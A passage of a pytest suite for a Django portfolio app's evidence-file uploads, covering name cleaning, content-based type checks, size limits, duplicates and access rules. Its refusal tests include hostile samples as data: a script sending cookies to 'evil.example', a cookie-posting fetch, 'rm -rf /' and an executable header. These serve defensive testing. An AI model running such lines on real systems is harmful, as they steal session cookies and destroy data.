"""Evidence files: type by content, names, size limits, storage, duplicates, and the views.

Real files throughout: samples are built here (Pillow, zipfile, wave), stored on disk under a
per-test MEDIA_ROOT and read back; nothing about storage or libmagic is mocked.
"""

import io
import os
import re
import subprocess
import sys
import time
import wave
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.template.loader import render_to_string
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from accounts.models import User
from portfolio.filetypes import clean_name, format_size
from portfolio.models import EvidenceVersion, Method, StoredFile, VersionFile
from portfolio.services.evidence import EvidenceDetails, VersionLocked, evidence_create, evidence_new_version
from portfolio.services.files import DuplicateFile, FileRefused, file_attach, file_detach
from tests.factories import EnrolmentFactory, UnitFactory, UserFactory

ROOT = django_settings.BASE_DIR

# --- Samples -------------------------------------------------------------------------------------


def image_bytes(fmt: str, colour: str = "red") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), colour).save(buffer, fmt)
    return buffer.getvalue()


# Pillow stamps the current time into a PDF unless told the dates: fixed, so equal calls give equal bytes.
FIXED_PDF_DATE = time.gmtime(datetime(2026, 1, 1, tzinfo=UTC).timestamp())


def pdf_bytes(colour: str = "white") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), colour).save(buffer, "PDF", creationDate=FIXED_PDF_DATE, modDate=FIXED_PDF_DATE)
    return buffer.getvalue()


TEXT_PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)

OOXML_MAIN = {
    "word/document.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xl/workbook.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "ppt/presentation.xml": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    "word/document.docm.xml": "application/vnd.ms-word.document.macroEnabled.main+xml",
}


def ooxml_bytes(main_part: str, content_type: str | None = None) -> bytes:
    content_type = content_type or OOXML_MAIN[main_part]
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{content_type}"/></Types>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr(main_part, '<?xml version="1.0"?><document/>')
    return buffer.getvalue()


def odf_bytes(mimetype: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
    return buffer.getvalue()


def plain_zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    return buffer.getvalue()


def wav_bytes() -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\x00\x01" * 800)
    return buffer.getvalue()


def mp4_bytes(brand: bytes = b"mp42") -> bytes:
    def box(kind: bytes, payload: bytes) -> bytes:
        return (8 + len(payload)).to_bytes(4, "big") + kind + payload

    return box(b"ftyp", brand + b"\0\0\0\0" + brand + b"isom") + box(b"free", b"\0" * 16) + box(b"mdat", b"\0" * 64)


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- Fixtures ------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "private"
    return settings.MEDIA_ROOT


@pytest.fixture
def enrolment(learner, assessor):
    return EnrolmentFactory(learner=learner, assessor=assessor, units=[UnitFactory()])


def make_evidence(enrolment, learner, title: str = "Team briefing notes"):
    details = EvidenceDetails(
        title=title,
        description="",
        method=Method.WORK_PRODUCT,
        activity_date=timezone.localdate() - timedelta(days=3),
        activity_end_date=None,
        location="",
    )
    return evidence_create(enrolment=enrolment, by=learner, details=details)


@pytest.fixture
def evidence(enrolment, learner):
    return make_evidence(enrolment, learner)


def attach(evidence, learner, name: str, data: bytes, content_type: str = "application/octet-stream"):
    return file_attach(version=evidence.current_version, upload=upload(name, data, content_type), by=learner)


def stored_files(media_root: Path) -> list[Path]:
    return [p for p in media_root.rglob("*") if p.is_file()] if media_root.exists() else []


def lock(version: EvidenceVersion) -> None:
    EvidenceVersion.objects.filter(pk=version.pk).update(
        status=EvidenceVersion.Status.SUBMITTED, submitted_at=timezone.now()
    )


# --- Names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        ("../../x", "x"),
        ("..\\..\\Windows\\report.pdf", "report.pdf"),
        ("C:\\Users\\lena\\Desktop\\rota.xlsx", "rota.xlsx"),
        ("a\x00b\x07c.pdf", "abc.pdf"),
        ("tab\there\nand there.pdf", "tab here and there.pdf"),
        ("  many   spaces  .pdf", "many spaces.pdf"),
        ("x" * 500 + ".pdf", "x" * 146 + ".pdf"),
        (".hidden.pdf", "hidden.pdf"),
        ("...", "file"),
        ("..", "file"),
        (".pdf", "file.pdf"),
        ("", "file"),
        ("Cafe\u0301 menu.docx", "Caf\u00e9 menu.docx"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),
        ("report..pdf", "report.pdf"),
        ("Meeting 10:30 (final).pdf", "Meeting 10:30 (final).pdf"),
    ],
)
def test_names_are_cleaned(raw, cleaned):
    assert clean_name(raw) == cleaned


def test_long_names_keep_their_extension_and_limit():
    cleaned = clean_name("é" * 300 + ".docx")
    assert len(cleaned) == 150
    assert cleaned.endswith(".docx")


def test_the_size_limit_comes_from_the_environment_and_must_be_positive(tmp_path):
    def limit(value: str) -> subprocess.CompletedProcess[str]:
        env = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "REDIS_URL"}}
        env.update(DEBUG="1", VAR_DIR=str(tmp_path), EVIDENCE_MAX_FILE_SIZE=value)
        code = "import config.settings as s; print(s.EVIDENCE_MAX_FILE_SIZE)"
        return subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)

    assert limit("1048576").stdout.strip() == "1048576"
    assert "EVIDENCE_MAX_FILE_SIZE and EVIDENCE_MAX_FILES_PER_UPLOAD must be at least 1" in limit("0").stderr
    assert "EVIDENCE_MAX_FILE_SIZE must be a whole number" in limit("200MB").stderr


@pytest.mark.parametrize(
    ("size", "text"),
    [(0, "0 bytes"), (1, "1 byte"), (1536, "1.5 KB"), (200 * 1024 * 1024, "200 MB"), (3 * 1024**3, "3 GB")],
)
def test_sizes_read_as_people_say_them(size, text):
    assert format_size(size) == text


# --- Accepted files ------------------------------------------------------------------------------

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
ODP = "application/vnd.oasis.opendocument.presentation"

ACCEPTED = [
    ("photo.png", image_bytes("PNG"), "image/png"),
    ("photo.jpg", image_bytes("JPEG"), "image/jpeg"),
    ("animation.gif", image_bytes("GIF"), "image/gif"),
    ("photo.webp", image_bytes("WEBP"), "image/webp"),
    ("scan.pdf", pdf_bytes(), "application/pdf"),
    ("minimal.pdf", TEXT_PDF, "application/pdf"),
    ("report.docx", ooxml_bytes("word/document.xml"), DOCX),
    ("rota.xlsx", ooxml_bytes("xl/workbook.xml"), XLSX),
    ("talk.pptx", ooxml_bytes("ppt/presentation.xml"), PPTX),
    ("letter.odt", odf_bytes(ODT), ODT),
    ("sums.ods", odf_bytes(ODS), ODS),
    ("slides.odp", odf_bytes(ODP), ODP),
    ("notes.txt", b"Met the team at 9 and went through the rota.\n", "text/plain"),
    ("figures.csv", b"name,calls\nPriya,42\nDan,37\n", "text/csv"),
    ("letter.rtf", b"{\\rtf1\\ansi Dear customer}", "text/rtf"),
    ("feedback.wav", wav_bytes(), "audio/wav"),
    ("walkthrough.mp4", mp4_bytes(), "video/mp4"),
    ("clip.mov", mp4_bytes(b"qt  "), "video/quicktime"),
    ("memo.m4a", mp4_bytes(b"M4A "), "audio/mp4"),
    ("photo.heic", mp4_bytes(b"heic"), "image/heic"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "content_type"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_each_allowed_kind_is_accepted_by_its_content(evidence, learner, media_root, name, data, content_type):
    result = attach(evidence, learner, name, data, content_type="text/html")  # the browser's claim is ignored
    stored = result.file
    assert stored.content_type == content_type
    assert stored.original_name == name
    assert stored.size == len(data)
    assert result.notices == []
    assert (media_root / stored.storage_name).read_bytes() == data


def test_the_stored_row_and_path_carry_no_user_text(evidence, learner, media_root):
    import hashlib

    data = pdf_bytes()
    stored = attach(evidence, learner, "My private report.pdf", data).file
    now = timezone.now()
    assert stored.storage_name == f"evidence/{now:%Y}/{now:%m}/{stored.uuid}"
    assert stored.sha256 == hashlib.sha256(data).hexdigest()
    assert stored.uploaded_by == learner
    assert stored.enrolment == evidence.enrolment
    assert [p.relative_to(media_root).as_posix() for p in stored_files(media_root)] == [stored.storage_name]
    assert list(VersionFile.objects.filter(version=evidence.current_version).values_list("file", "position")) == [
        (stored.pk, 1)
    ]


def test_files_take_the_next_position(evidence, learner):
    attach(evidence, learner, "a.png", image_bytes("PNG", "red"))
    attach(evidence, learner, "b.png", image_bytes("PNG", "blue"))
    attach(evidence, learner, "c.png", image_bytes("PNG", "green"))
    names = [vf.file.original_name for vf in evidence.current_version.version_files.order_by("position")]
    assert names == ["a.png", "b.png", "c.png"]


def test_a_wrong_extension_is_corrected_and_the_person_told(evidence, learner):
    result = attach(evidence, learner, "photo.pdf", image_bytes("PNG"))
    assert result.file.original_name == "photo.png"
    assert result.file.content_type == "image/png"
    assert result.notices == ["“photo.pdf” is really a PNG image, so it was saved as “photo.png”."]


def test_a_missing_extension_is_added(evidence, learner):
    result = attach(evidence, learner, "minutes", ooxml_bytes("word/document.xml"))
    assert result.file.original_name == "minutes.docx"
    assert result.notices == ["“minutes” is really a Word document, so it was saved as “minutes.docx”."]


def test_a_hostile_name_is_cleaned_and_the_person_told(evidence, learner):
    result = attach(evidence, learner, ".\x00secret\x1b notes.pdf", pdf_bytes())
    assert result.file.original_name == "secret notes.pdf"
    assert result.notices == [
        "“.?secret? notes.pdf” was renamed “secret notes.pdf”: names keep no folders, hidden dots or control "
        "characters, and at most 150 characters."
    ]


def test_a_very_long_name_is_shortened(evidence, learner):
    result = attach(evidence, learner, "minutes of the meeting " * 10 + ".pdf", pdf_bytes())
    assert result.file.original_name == ("minutes of the meeting " * 10)[:146].rstrip() + ".pdf"
    assert "renamed" in result.notices[0]


# --- Refused files -------------------------------------------------------------------------------

REFUSED = [
    (
        "photo.jpg",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "“photo.jpg”: This file is really a web page (HTML), not an image. Upload the original document or image.",
    ),
    (
        "report.pdf",
        b"<html><body>Not a PDF</body></html>",
        "“report.pdf”: This file is really a web page (HTML), not a document. Upload the original document or image.",
    ),
    (
        "page.html",
        b"<!doctype html><title>x</title>",
        "“page.html”: This file is a web page (HTML). Save it as a PDF and upload that instead.",
    ),
    (
        "notes.txt",
        b"Some notes\n<script>document.location='https://evil.example/'+document.cookie</script>\n",
        "“notes.txt”: This file is really a web page (HTML), not a document. Upload the original document or image.",
    ),
    (
        "drawing.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "“drawing.png”: This file is an SVG drawing, which can carry scripts. Save it as PNG or PDF and upload that "
        "instead.",
    ),
    (
        "setup.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 400,
        "“setup.pdf”: This file is a program or code, not evidence of your work. Programs and scripts cannot be "
        "uploaded.",
    ),
    (
        "app.js",
        b"function steal() { fetch('/x', {method: 'POST', body: document.cookie}); }\n",
        "“app.js”: This file is a program or code, not evidence of your work. Programs and scripts cannot be uploaded.",
    ),
    (
        "run.sh",
        b"#!/bin/sh\nrm -rf /\n",
        "“run.sh”: This file is a program or code, not evidence of your work. Programs and scripts cannot be uploaded.",
    ),
    (
        "report.docx",
        plain_zip_bytes(),
        "“report.docx”: This file is a compressed (zip) archive. Upload the files inside it one by one instead.",
    ),
    (
        "macros.docx",
        ooxml_bytes("word/document.docm.xml"),
        "“macros.docx”: This Office file contains macros, which can run code. Save it as .docx, .xlsx or .pptx "
        "instead.",
    ),
    (
        "archive.gz",
        b"\x1f\x8b\x08\x00" + b"\x00" * 60,
        "“archive.gz”: This file is a compressed (gzip) archive. Upload the files inside it one by one instead.",
    ),
]


@pytest.mark.parametrize(("name", "data", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_by_content_whatever_the_name(evidence, learner, media_root, name, data, message):
    with pytest.raises(FileRefused) as refused:
        attach(evidence, learner, name, data, content_type="image/jpeg")
    assert refused.value.message == message
    assert not StoredFile.objects.exists()
    assert stored_files(media_root) == []


def test_unknown_binary_is_refused_with_the_allowed_list(evidence, learner):
    with pytest.raises(FileRefused) as refused:
        attach(evidence, learner, "data.bin", bytes(range(256)) * 8)
    assert "Allowed: documents (PDF, Word" in refused.value.message


def test_an_empty_file_is_refused(evidence, learner):
    with pytest.raises(FileRefused) as refused:
        attach(evidence, learner, "x.pdf", b"")
    assert refused.value.message == "“x.pdf” is empty."


def test_the_service_checks_the_size_itself(evidence, learner, media_root, settings):
    settings.EVIDENCE_MAX_FILE_SIZE = 100
    with pytest.raises(FileRefused) as refused:
        attach(evidence, learner, "big.txt", b"a" * 101)
    assert refused.value.message == "“big.txt” is too large: each file can be at most 100 bytes."
    assert stored_files(media_root) == []
    assert attach(evidence, learner, "exact.txt", b"a" * 100).file.size == 100


def test_a_submitted_version_takes_no_files(evidence, learner, media_root):
    lock(evidence.current_version)
    with pytest.raises(VersionLocked):
        attach(evidence, learner, "late.pdf", pdf_bytes())
    assert stored_files(media_root) == []


def test_bytes_are_deleted_when_the_row_cannot_be_written(evidence, learner, media_root):
    nobody = User(username="unsaved")  # not in the database: the insert fails after the bytes are stored
    with pytest.raises(ValueError, match="unsaved"):
        file_attach(version=evidence.current_version, upload=upload("a.pdf", pdf_bytes()), by=nobody)
    assert not StoredFile.objects.exists()
    assert stored_files(media_root) == []


# --- Duplicates ----------------------------------------------------------------------------------


def test_the_same_file_in_other_evidence_is_refused_with_where_it_is(enrolment, learner, media_root):
    first = make_evidence(enrolment, learner, title="Rota planning")
    second = make_evidence(enrolment, learner, title="Customer call")
    original = attach(first, learner, "rota.pdf", pdf_bytes()).file
    with pytest.raises(DuplicateFile) as duplicate:
        attach(second, learner, "copy of rota.pdf", pdf_bytes())
    assert duplicate.value.existing == original
    assert duplicate.value.evidence == first
    assert duplicate.value.message == (
        "“copy of rota.pdf” is already in this portfolio as “rota.pdf”, in the evidence “Rota planning”. "
        "Map that evidence to more criteria instead of uploading the file again."
    )
    assert len(stored_files(media_root)) == 1


def test_the_same_file_twice_on_one_version_is_refused(evidence, learner):
    attach(evidence, learner, "rota.pdf", pdf_bytes())
    with pytest.raises(DuplicateFile) as duplicate:
        attach(evidence, learner, "rota again.pdf", pdf_bytes())
    assert duplicate.value.message == "“rota again.pdf” is already attached to this evidence as “rota.pdf”."


def test_another_portfolio_may_hold_the_same_bytes(evidence, learner):
    attach(evidence, learner, "form.pdf", pdf_bytes())
    other_learner = UserFactory(role=User.Role.LEARNER)
    other = make_evidence(EnrolmentFactory(learner=other_learner), other_learner)
    assert attach(other, other_learner, "form.pdf", pdf_bytes()).file.enrolment == other.enrolment


def test_a_file_taken_off_a_new_version_can_be_added_back(evidence, learner, media_root):
    stored = attach(evidence, learner, "rota.pdf", pdf_bytes()).file
    lock(evidence.current_version)
    draft = evidence_new_version(evidence=evidence, by=learner)
    file_detach(version=draft, file=stored, by=learner)
    assert StoredFile.objects.filter(pk=stored.pk).exists()  # version 1 still holds it

    result = file_attach(version=draft, upload=upload("rota.pdf", pdf_bytes()), by=learner)
    assert result.file == stored
    assert result.notices == ["“rota.pdf” was in this evidence before, so it was added back."]
    assert list(draft.files.all()) == [stored]
    assert len(stored_files(media_root)) == 1


# --- Detaching -----------------------------------------------------------------------------------


def test_detaching_the_last_reference_deletes_row_and_bytes_after_commit(
    evidence, learner, media_root, django_capture_on_commit_callbacks
):
    stored = attach(evidence, learner, "rota.pdf", pdf_bytes()).file
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        file_detach(version=evidence.current_version, file=stored, by=learner)
    assert not StoredFile.objects.filter(pk=stored.pk).exists()
    assert len(stored_files(media_root)) == 1  # bytes outlive a rollback until the commit
    for callback in callbacks:
        callback()
    assert stored_files(media_root) == []


def test_detaching_from_a_submitted_version_is_refused(evidence, learner):
    stored = attach(evidence, learner, "rota.pdf", pdf_bytes()).file
    lock(evidence.current_version)
    with pytest.raises(VersionLocked):
        file_detach(version=evidence.current_version, file=stored, by=learner)
    assert evidence.current_version.files.get() == stored


def test_detaching_a_file_not_on_the_version_is_refused(enrolment, learner):
    first = make_evidence(enrolment, learner, title="One")
    second = make_evidence(enrolment, learner, title="Two")
    stored = attach(first, learner, "rota.pdf", pdf_bytes()).file
    with pytest.raises(FileRefused, match="is not attached to this version"):
        file_detach(version=second.current_version, file=stored, by=learner)


# --- Upload handler and views --------------------------------------------------------------------


class RecordingHandler(FileUploadHandler):
    """Placed after the size-limit handler: records how many bytes of each file got past it."""

    received: list[int] = []

    def new_file(self, *args, **kwargs):
        super().new_file(*args, **kwargs)
        RecordingHandler.received.append(0)

    def receive_data_chunk(self, raw_data, start):
        RecordingHandler.received[-1] += len(raw_data)
        return raw_data

    def file_complete(self, file_size):
        return None


@pytest.fixture
def recording_handlers(settings):
    RecordingHandler.received = []
    settings.FILE_UPLOAD_HANDLERS = [
        "portfolio.uploads.EvidenceUploadHandler",
        "tests.portfolio.test_files.RecordingHandler",
        "django.core.files.uploadhandler.MemoryFileUploadHandler",
        "django.core.files.uploadhandler.TemporaryFileUploadHandler",
    ]
    return RecordingHandler.received


def upload_url(evidence) -> str:
    return reverse("portfolio:file_upload", args=[evidence.uuid])


def edit_url(evidence) -> str:
    return reverse("portfolio:evidence_edit", args=[evidence.uuid])


def messages_of(response) -> list[tuple[str, str]]:
    return [(m.level_tag, str(m)) for m in get_messages(response.wsgi_request)]


FRAGMENT = {"X-Upload-Fragment": "1"}


def test_plain_form_upload_adds_each_file_and_reports_each_refusal(client, learner, evidence):
    client.force_login(learner)
    files = [upload("rota.pdf", pdf_bytes()), upload("empty.txt", b""), upload("photo.jpg", b"<html>x</html>")]
    response = client.post(upload_url(evidence), {"files": files})
    assert response.status_code == 303
    assert response["Location"] == edit_url(evidence)
    assert messages_of(response) == [
        ("success", "Added “rota.pdf”."),
        ("error", "“empty.txt” is empty."),
        (
            "error",
            "“photo.jpg”: This file is really a web page (HTML), not an image. Upload the original document or image.",
        ),
    ]
    assert [f.original_name for f in evidence.current_version.files.all()] == ["rota.pdf"]


def test_plain_form_upload_without_files_says_so(client, learner, evidence):
    client.force_login(learner)
    response = client.post(upload_url(evidence), {})
    assert messages_of(response) == [("error", "Choose one or more files to upload.")]


def test_fragment_upload_returns_the_new_row(client, learner, evidence):
    client.force_login(learner)
    response = client.post(upload_url(evidence), {"files": [upload("photo.png", image_bytes("PNG"))]}, headers=FRAGMENT)
    assert response.status_code == 200
    stored = StoredFile.objects.get()
    html = response.content.decode()
    assert html.strip().startswith(f'<li class="card mb-2 evidence-file" id="file-{stored.uuid}">')
    assert 'alt="Preview of photo.png"' in html
    assert reverse("portfolio:file_download", args=[stored.uuid]) in html
    assert reverse("portfolio:file_remove", args=[evidence.uuid, stored.uuid]) in html
    assert not list(get_messages(response.wsgi_request))


def test_fragment_upload_returns_the_refusal_as_an_alert(client, learner, evidence):
    client.force_login(learner)
    response = client.post(upload_url(evidence), {"files": [upload("photo.jpg", b"<html>x</html>")]}, headers=FRAGMENT)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    assert 'role="alert"' in html
    assert "This file is really a web page (HTML), not an image." in html
    assert not StoredFile.objects.exists()


def test_a_duplicate_links_to_the_evidence_holding_it(client, learner, enrolment):
    first = make_evidence(enrolment, learner, title="Rota <planning>")
    second = make_evidence(enrolment, learner, title="Call")
    attach(first, learner, "rota.pdf", pdf_bytes())
    client.force_login(learner)
    response = client.post(upload_url(second), {"files": [upload("rota.pdf", pdf_bytes())]}, headers=FRAGMENT)
    assert response.status_code == 400
    html = response.content.decode()
    assert f'<a href="{reverse("portfolio:evidence", args=[first.uuid])}">Open that evidence</a>' in html
    assert "“Rota &lt;planning&gt;”" in html  # the title is escaped, only our link is markup


def test_a_duplicate_on_the_same_evidence_needs_no_link(client, learner, evidence):
    attach(evidence, learner, "rota.pdf", pdf_bytes())
    client.force_login(learner)
    response = client.post(upload_url(evidence), {"files": [upload("again.pdf", pdf_bytes())]}, headers=FRAGMENT)
    assert response.status_code == 400
    assert "“again.pdf” is already attached to this evidence as “rota.pdf”." in response.content.decode()
    assert "Open that evidence" not in response.content.decode()


def test_the_size_limit_stops_reading_a_file_as_it_streams(
    client, learner, evidence, settings, media_root, recording_handlers
):
    settings.EVIDENCE_MAX_FILE_SIZE = 100 * 1024
    client.force_login(learner)
    big = upload("video.mp4", b"\x00" * (1024 * 1024))
    small = upload("notes.txt", b"fine")
    response = client.post(upload_url(evidence), {"files": [big, small]})
    # The handler passed on the first chunk (64 KB less the part headers), then dropped the file at the
    # chunk that crossed 100 KB: the handlers after it never saw more than the limit.
    video_bytes_seen, notes_bytes_seen = recording_handlers
    assert 60 * 1024 < video_bytes_seen <= 64 * 1024
    assert notes_bytes_seen == 4
    assert messages_of(response) == [
        ("error", "“video.mp4” is too large: each file can be at most 100 KB."),
        ("success", "Added “notes.txt”."),
    ]
    assert [f.original_name for f in StoredFile.objects.all()] == ["notes.txt"]
    assert len(stored_files(media_root)) == 1


def test_an_oversized_request_is_refused_before_any_file_is_read(
    client, learner, evidence, settings, recording_handlers
):
    settings.EVIDENCE_MAX_FILE_SIZE = 1000
    client.force_login(learner)
    response = client.post(
        upload_url(evidence), {"files": [upload("huge.pdf", b"%PDF" + b"\x00" * (1100 * 1024))]}, headers=FRAGMENT
    )
    assert recording_handlers == [0]
    assert response.status_code == 400
    assert "“huge.pdf” was not added: the upload was 1.1 MB, more than its files may be" in response.content.decode()
    assert not StoredFile.objects.exists()


def test_too_many_files_at_once(client, learner, evidence, settings):
    settings.EVIDENCE_MAX_FILES_PER_UPLOAD = 2
    client.force_login(learner)
    files = [upload(f"{n}.txt", f"note {n}".encode()) for n in range(3)]
    response = client.post(upload_url(evidence), {"files": files})
    assert messages_of(response) == [
        ("error", "“2.txt” was not added: add at most 2 files at a time."),
        ("success", "Added “0.txt”."),
        ("success", "Added “1.txt”."),
    ]


def test_renaming_is_reported_after_a_plain_upload(client, learner, evidence):
    client.force_login(learner)
    response = client.post(upload_url(evidence), {"files": [upload("photo.pdf", image_bytes("PNG"))]})
    assert messages_of(response) == [
        ("success", "Added “photo.png”."),
        ("info", "“photo.pdf” is really a PNG image, so it was saved as “photo.png”."),
    ]


def test_uploading_to_submitted_evidence_is_refused(client, learner, evidence):
    lock(evidence.current_version)
    client.force_login(learner)
    response = client.post(upload_url(evidence), {"files": [upload("a.txt", b"a"), upload("b.txt", b"b")]})
    assert messages_of(response) == [
        ("error", "This version has been submitted and can no longer be changed. Start a new version to edit it."),
        ("error", "1 more file was not added."),
    ]


def test_remove_takes_the_file_off_the_draft(client, learner, evidence, media_root, django_capture_on_commit_callbacks):
    stored = attach(evidence, learner, "rota.pdf", pdf_bytes()).file
    client.force_login(learner)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("portfolio:file_remove", args=[evidence.uuid, stored.uuid]))
    assert response.status_code == 303
    assert response["Location"] == edit_url(evidence)
    assert messages_of(response) == [("success", "Removed “rota.pdf”.")]
    assert not StoredFile.objects.exists()
    assert stored_files(media_root) == []


def test_remove_of_a_file_from_other_evidence_in_another_portfolio_is_404(client, learner, evidence):
    other_learner = UserFactory(role=User.Role.LEARNER, centre=learner.centre)
    other = make_evidence(EnrolmentFactory(learner=other_learner), other_learner)
    stored = attach(other, other_learner, "theirs.pdf", pdf_bytes()).file
    client.force_login(learner)
    response = client.post(reverse("portfolio:file_remove", args=[evidence.uuid, stored.uuid]))
    assert response.status_code == 404
    assert StoredFile.objects.filter(pk=stored.pk).exists()


def test_download_streams_the_exact_bytes_as_an_attachment(client, learner, evidence):
    data = pdf_bytes()
    stored = attach(evidence, learner, "Café rota.pdf", data).file
    client.force_login(learner)
    response = client.get(reverse("portfolio:file_download", args=[stored.uuid]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == data
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''Caf%C3%A9%20rota.pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Length"] == str(len(data))


def test_download_of_an_ascii_name(client, learner, evidence):
    stored = attach(evidence, learner, "rota.csv", b"a,b\n1,2\n").file
    client.force_login(learner)
    response = client.get(reverse("portfolio:file_download", args=[stored.uuid]))
    assert response["Content-Disposition"] == 'attachment; filename="rota.csv"'
    assert response["Content-Type"] == "text/csv"


@pytest.mark.parametrize(
    ("name", "data"),
    [("photo.png", image_bytes("PNG")), ("photo.jpg", image_bytes("JPEG")), ("scan.pdf", pdf_bytes())],
)
def test_preview_shows_images_and_pdfs_inline(client, learner, evidence, name, data):
    stored = attach(evidence, learner, name, data).file
    client.force_login(learner)
    response = client.get(reverse("portfolio:file_preview", args=[stored.uuid]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("inline;")
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert b"".join(response.streaming_content) == data


@pytest.mark.parametrize(
    ("name", "data"), [("report.docx", ooxml_bytes("word/document.xml")), ("memo.wav", wav_bytes())]
)
def test_no_preview_for_other_kinds(client, learner, evidence, name, data):
    stored = attach(evidence, learner, name, data).file
    client.force_login(learner)
    assert client.get(reverse("portfolio:file_preview", args=[stored.uuid])).status_code == 404


def test_a_file_missing_from_storage_is_404(client, learner, evidence, media_root):
    stored = attach(evidence, learner, "rota.pdf", pdf_bytes()).file
    (media_root / stored.storage_name).unlink()
    client.force_login(learner)
    assert client.get(reverse("portfolio:file_download", args=[stored.uuid])).status_code == 404


# --- Who may do what -----------------------------------------------------------------------------


@pytest.fixture
def stored(evidence, learner):
    return attach(evidence, learner, "rota.pdf", pdf_bytes()).file


@pytest.fixture
def other_assessor(centre):
    return UserFactory(username="unassigned", role=User.Role.ASSESSOR, centre=centre)


@pytest.mark.parametrize("person", ["outsider", "other_assessor", "eqa"])
def test_people_outside_the_portfolio_get_404_everywhere(client, request, evidence, stored, person):
    client.force_login(request.getfixturevalue(person))
    assert client.get(reverse("portfolio:file_download", args=[stored.uuid])).status_code == 404
    assert client.get(reverse("portfolio:file_preview", args=[stored.uuid])).status_code == 404
    response = client.post(upload_url(evidence), {"files": [upload("x.txt", b"x")]})
    assert response.status_code == 404
    assert client.post(reverse("portfolio:file_remove", args=[evidence.uuid, stored.uuid])).status_code == 404
    assert StoredFile.objects.count() == 1


@pytest.mark.parametrize("person", ["assessor", "iqa_assigned", "centre_admin"])
def test_people_who_may_see_but_not_edit_get_403_on_writes(client, request, evidence, stored, person):
    client.force_login(request.getfixturevalue(person))
    assert client.get(reverse("portfolio:file_download", args=[stored.uuid])).status_code == 200
    assert client.post(upload_url(evidence), {"files": [upload("x.txt", b"x")]}).status_code == 403
    assert client.post(reverse("portfolio:file_remove", args=[evidence.uuid, stored.uuid])).status_code == 403
    assert StoredFile.objects.count() == 1


@pytest.fixture
def iqa_assigned(iqa, enrolment):
    enrolment.iqa = iqa
    enrolment.save(update_fields=["iqa"])
    return iqa


def test_anonymous_people_are_sent_to_log_in(client, evidence, stored):
    response = client.get(reverse("portfolio:file_download", args=[stored.uuid]))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_upload_and_remove_only_accept_post(client, learner, evidence, stored):
    client.force_login(learner)
    assert client.get(upload_url(evidence)).status_code == 405
    assert client.get(reverse("portfolio:file_remove", args=[evidence.uuid, stored.uuid])).status_code == 405


# --- The file list template ----------------------------------------------------------------------


def render_files(learner, evidence, *, can_edit: bool) -> str:
    request = RequestFactory().get("/")
    request.user = learner
    version = evidence.current_version
